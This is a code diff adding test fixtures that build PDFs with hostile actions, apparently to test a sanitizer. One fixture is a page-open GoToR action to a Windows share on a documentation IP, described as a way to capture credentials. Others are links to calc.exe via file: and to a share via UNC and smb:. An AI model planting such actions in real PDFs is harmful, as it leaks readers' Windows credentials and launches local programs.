@@ -5,6 +5,7 @@ from __future__ import annotations
 import io
 import zipfile
 import zlib
+from typing import Any
 
 import pikepdf
 from pikepdf import Array, Dictionary, Name
@@ -132,6 +133,84 @@ def with_active_content() -> bytes:
         page.Annots = pdf.make_indirect(annots)
         pdf.Root.AcroForm = Dictionary(Fields=Array([button]))
         pdf.Root.Outlines.First.A = script("app.alert('bookmark');")
+        return _saved(pdf)
+
+
+# A host on the documentation network (RFC 5737): what the security test found used one.
+SHARE = "\\\\203.0.113.9\\share"
+# The addresses in with_links_elsewhere that stay links in a bundle.
+WEB_LINKS = ("https://www.regiogv.nl/stukken/", "mailto:griffie@regiogv.nl")
+
+
+def actions_in(pdf: pikepdf.Pdf) -> list[Dictionary]:
+    """Every action a PDF holds, also those written inside another object (``pdf.objects``
+    lists only the objects of their own)."""
+    found: list[Dictionary] = []
+    todo: list[Any] = list(pdf.objects)
+    while todo:
+        obj = todo.pop()
+        if isinstance(obj, Dictionary) and Name.S in obj:
+            found.append(obj)
+        inside = list(obj.values()) if isinstance(obj, Dictionary | pikepdf.Stream) else obj
+        if isinstance(inside, Array | list):
+            todo.extend(
+                o for o in inside if isinstance(o, Array | Dictionary) and not o.is_indirect
+            )
+    return found
+
+
+def with_links_elsewhere() -> bytes:
+    """A corpus PDF whose links and page-open action reach other files and computers.
+
+    Its first page, when opened, goes to a PDF on a Windows share (the way to make a reader
+    hand a stranger its Windows credentials); its second page has links to a program on this
+    computer (``file:``), to a share by its UNC path and by ``smb:``, to a PDF and to an article
+    in a file on that share; and links that stay: a web page, an e-mail address, a page of its
+    own, an article of its own and the print command.
+    """
+    with pikepdf.open(CORPUS / "004-pdflatex-4-pages--pdflatex-4-pages.pdf") as pdf:
+        shared_pdf = Dictionary(
+            Type=Name.Filespec,
+            FS=Name.URL,
+            F=pikepdf.String(SHARE + "\\x.pdf"),
+            UF=pikepdf.String(SHARE + "\\x.pdf"),
+        )
+        pdf.pages[0].obj.AA = Dictionary(
+            O=Dictionary(S=Name.GoToR, F=shared_pdf, D=Array([0, Name.Fit]), NewWindow=True)
+        )
+        article = pdf.make_indirect(
+            Dictionary(Type=Name.Thread, I=Dictionary(Title=pikepdf.String("Artikel")))
+        )
+        pdf.Root.Threads = Array([article])
+
+        def uri(address: str) -> Dictionary:
+            return Dictionary(S=Name.URI, URI=pikepdf.String(address))
+
+        actions = [
+            uri("file:///C:/Windows/System32/calc.exe"),
+            uri(SHARE + "\\doc"),
+            uri("smb://203.0.113.9/share/doc"),
+            Dictionary(S=Name.GoToR, F=pikepdf.String(SHARE + "\\y.pdf"), D=Array([0, Name.Fit])),
+            Dictionary(S=Name.Thread, F=pikepdf.String(SHARE + "\\z.pdf"), D=0),
+            *(uri(address) for address in WEB_LINKS),
+            Dictionary(S=Name.GoTo, D=Array([pdf.pages[2].obj, Name.Fit])),
+            Dictionary(S=Name.Thread, D=article),
+            Dictionary(S=Name.Named, N=Name.Print),
+        ]
+        page = pdf.pages[1].obj
+        page.Annots = pdf.make_indirect(
+            Array(
+                pdf.make_indirect(
+                    Dictionary(
+                        Type=Name.Annot,
+                        Subtype=Name.Link,
+                        Rect=Array([72, 700 - 30 * index, 300, 720 - 30 * index]),
+                        A=action,
+                    )
+                )
+                for index, action in enumerate(actions)
+            )
+        )
         return _saved(pdf)
 
 
